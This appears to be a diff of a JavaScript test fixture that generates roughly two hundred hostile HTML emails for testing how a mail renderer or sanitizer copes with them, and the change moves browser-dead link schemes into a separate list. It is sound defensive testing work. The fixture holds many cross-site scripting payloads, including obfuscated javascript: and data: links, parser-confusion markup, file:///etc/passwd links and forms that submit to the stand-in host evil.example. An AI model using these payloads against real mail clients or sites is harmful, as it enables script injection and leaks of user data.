@@ -1,6 +1,6 @@
 // Two hundred mails that would like to run, load, lead elsewhere, or break the page that shows them.
 // Out: { name, html, leads }: whole documents; `MARK` stands where the test puts a mark to know them by; `leads` says that a
-// person who clicks in it, with nothing around it, follows a link of their own will. Every name they ask for ends in EVIL.
+// click in it, with nothing around it, follows a link. Every name they ask for ends in EVIL.
 
 export const EVIL = "evil.example";
 const out = (path) => `http://${EVIL}/${path}`;
@@ -50,8 +50,11 @@ const HANDLERS = [
 
 const LINKS = [
   js, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java&#x0A;script:${CODED}`, `java\tscript:${RUN}`, `&#106;&#97;vascript:${CODED}`, `\u0001javascript:${RUN}`, `javascript&colon;${CODED}`, `javascript://%0a${RUN}`,
-  data, `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString("base64")}`, `data:image/svg+xml,${url(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`, "vbscript:msgbox(1)", "file:///etc/passwd", "blob:http://127.0.0.1/x", "filesystem:http://127.0.0.1/x",
-  "view-source:file:///etc/passwd", "about:srcdoc", "chrome://settings", "intent://x#Intent;scheme=http;end", "#%E0%A4%A", "#%", "#top",
+  data, `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString("base64")}`, `data:image/svg+xml,${url(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`,
+];
+// Where a browser itself leads nowhere, or to its error page.
+const DEAD = [
+  "vbscript:msgbox(1)", "file:///etc/passwd", "blob:http://127.0.0.1/x", "filesystem:http://127.0.0.1/x", "view-source:file:///etc/passwd", "about:srcdoc", "chrome://settings", "intent://x#Intent;scheme=http;end", "#%E0%A4%A", "#%", "#top",
 ];
 
 const ELSEWHERE = [
@@ -94,7 +97,7 @@ const PARSING = [
   `<!--><img src=x onerror="${RUN}">-->`, `<!--!><img src=x onerror="${RUN}">--!>`, `<![CDATA[<img src=x onerror="${RUN}">]]>`, `<!--[if mso]><img src=x onerror="${RUN}"><![endif]-->`, `<![if !mso]><img src=x onerror="${RUN}"><![endif]>`, `<!--[if IE]><script>${RUN}</script><![endif]--><!-- > <script>${RUN}</script> -->`, `<a href="x<img src=x onerror='${RUN}'>">x`, `<img src="x\` onerror="${RUN}">`,
   `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`, `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>"></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CODED}&gt;"></table></mtext></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></form>`, `<title></title><textarea><title></textarea><img src=x onerror="${RUN}">`, `<xmp><img src=x onerror="${RUN}"></xmp><plaintext>MARK<script>${RUN}</script>`, `<select><template><style></select><img src=x onerror="${RUN}"></style></template></select>`, `<p title='x" onclick="${RUN}" y="'>x</p>`,
   `<img src=x onerror\u000b="${RUN}"><img src=x onerror\u000c="${RUN}">`, `<img src=x \0onerror="${RUN}">`, `<\u017fcript>${RUN}</\u017fcript><ſcript>${RUN}</ſcript>`, `<%<!--'%><script>${RUN}</script-->`, "<b>".repeat(20000), `${"<table>".repeat(400)}x`, `<p ${"a=b ".repeat(20000)}>x</p>`, "\u202e\u2066<p>x</p>\ufeff\u0000",
-].map((html, at) => body(`parsing ${at + 1}: ${html.slice(0, 40)}`, html));
+].map((html, at) => body(`parsing ${at + 1}: ${html.slice(0, 40)}`, html, { leads: html.startsWith("<a ") }));
 
 const FORMS = [
   `<form action="${out("f")}"><input name=a value=b autofocus><button>x</button></form>`, `<form action="../../../test" method=post enctype="text/plain"><button>x</button></form>`, `<form action="${js}"><button autofocus>x</button></form>`, `<form><button formaction="${js}">x</button></form>`, `<form id=f></form><button form=f formaction="${out("fa")}" formtarget="_top">x</button>`, `<form action="${out("g")}" target="_top"><input type=image alt=x></form>`, `<form method=dialog><button>x</button></form>`, `<input type=file><input type=password autocomplete="current-password"><input type=color>`,
@@ -120,7 +123,7 @@ const CLOBBERS = [
 export const hostileMails = [
   ...scripts,
   ...many("handler", HANDLERS, (html) => [html]),
-  ...many("link", LINKS, (href) => [`<a href="${href.replaceAll('"', "&quot;")}">x</a><a href="${href.replaceAll('"', "&quot;")}" target="_top">y</a><a href="${href.replaceAll('"', "&quot;")}" target="_blank">z</a>`, { leads: href.startsWith("#") || href.startsWith("about:") }]),
+  ...many("link", [...LINKS, ...DEAD], (href) => [`<a href="${href.replaceAll('"', "&quot;")}">x</a><a href="${href.replaceAll('"', "&quot;")}" target="_top">y</a><a href="${href.replaceAll('"', "&quot;")}" target="_blank">z</a>`, { leads: DEAD.includes(href) }]),
   ...ELSEWHERE,
   ...NAVIGATION,
   ...RELATIONS,
